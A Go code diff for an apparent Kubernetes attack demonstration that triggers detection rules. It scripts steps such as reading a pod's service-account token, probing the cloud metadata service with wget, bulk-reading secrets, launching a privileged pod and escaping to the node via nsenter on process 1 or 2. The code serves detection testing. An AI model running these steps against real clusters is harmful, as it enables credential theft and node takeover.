@@ -6,7 +6,6 @@ import (
 	"fmt"
 	"net/http"
 	"slices"
-	"strings"
 )
 
 // kubeStep is one thing an attacker does in or to a cluster.
@@ -24,7 +23,7 @@ type kubeStory struct {
 	shop  *kubeVictim
 	shell *kubeVictim // the privileged pod; nil until it is there
 	me    string      // identity of who runs the demo
-	thief *kubeAPI    // speaks with the shop's stolen token; nil until it is stolen
+	thief *kubeAPI    // speaks as the shop's account, from its pod; nil until the token is stolen
 }
 
 // robbed is the identity of the shop's service account.
@@ -45,7 +44,7 @@ func (s *kubeStory) steps() []kubeStep {
 				k.Shown, k.Proof = "cat "+tokenFile+" > /dev/null && echo read", "read"
 				k.Do = shell(k.Shown)
 			case slices.Contains(st.Expect, "metadata-service-by-hand"): // which may exist here
-				k.Shown, k.Proof = "/bin/wget -T 3 -q -O /dev/null '"+metadataURL+"'; echo asked", "asked"
+				k.Shown, k.Proof = "timeout 5 /bin/wget -q -O /dev/null '"+metadataURL+"'; echo asked", "asked"
 				k.Do = shell(k.Shown)
 			}
 			out = append(out, k)
@@ -57,13 +56,13 @@ func (s *kubeStory) steps() []kubeStep {
 	return append(out,
 		kubeStep{Attack: "token", Say: "Somebody lets the shop's account read secrets", Shown: "kubectl create rolebinding " + demoReader + " …",
 			API: []string{"k8s-dangerous-grant"}, Do: s.world.bindReader},
-		kubeStep{Attack: "token", Say: "The pod's token is copied, and asks what it may do", Shown: get("/selfsubjectrulesreviews"),
+		kubeStep{Attack: "token", Say: "The pod's token is copied and used through the pod: what may it do?", Shown: get("/selfsubjectrulesreviews"),
 			API: []string{"k8s-service-account-recon"}, Do: s.recon},
 		kubeStep{Attack: "token", Say: "It lists the namespace's secrets and reads them one by one", Shown: get("/secrets"),
 			API: []string{"k8s-secrets-read-in-bulk"}, Do: s.secrets, Proof: "read"},
 		kubeStep{Attack: "node", Say: "A privileged pod is started", Shown: "kubectl run " + demoShell + " --privileged …",
 			API: []string{"k8s-privileged-container"}, Do: s.privileged},
-		kubeStep{Attack: "node", Say: "From it a command runs on the node itself", Shown: "nsenter -t 1 -m -- /bin/sh -c id",
+		kubeStep{Attack: "node", Say: "From it a command runs on the node itself", Shown: intoNode,
 			Node: []string{"container-nsenter", "container-on-host"}, Do: s.escape, Proof: "uid=0"},
 		kubeStep{Attack: "cluster-admin", Say: "An account is made cluster administrator, for a moment", Shown: "kubectl create clusterrolebinding " + demoBinding + " …",
 			API: []string{"k8s-cluster-admin-binding"}, Do: s.world.bindAdmin},
@@ -86,12 +85,8 @@ func (s *kubeStory) in(rule string) *kubeVictim {
 	return s.shop
 }
 
-func (s *kubeStory) recon(ctx context.Context) (string, error) {
-	token, err := s.shop.Run(ctx, "", "cat", tokenFile)
-	if err != nil {
-		return "", err
-	}
-	if s.thief, err = s.world.api.as(strings.TrimSpace(token), agentByHand); err != nil {
+func (s *kubeStory) recon(ctx context.Context) (_ string, err error) {
+	if s.thief, err = s.shop.relay(ctx); err != nil {
 		return "", err
 	}
 	review := object{"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview", "spec": object{"namespace": s.world.namespace}}
@@ -129,9 +124,13 @@ func (s *kubeStory) privileged(ctx context.Context) (_ string, err error) {
 	return "it runs", err
 }
 
+// intoNode runs a command on the node's files. Where nobody may look at process 1, the
+// kernel's own process 2 leads to the same place.
+const intoNode = "nsenter -t 1 -m -- /bin/sh -c id || nsenter -t 2 -m -- /bin/sh -c id"
+
 func (s *kubeStory) escape(ctx context.Context) (string, error) {
 	if s.shell == nil {
 		return "", errors.New("there is no privileged pod")
 	}
-	return s.shell.Run(ctx, "", "nsenter", "-t", "1", "-m", "--", "/bin/sh", "-c", "id")
+	return s.shell.Run(ctx, "", "/bin/sh", "-c", intoNode)
 }
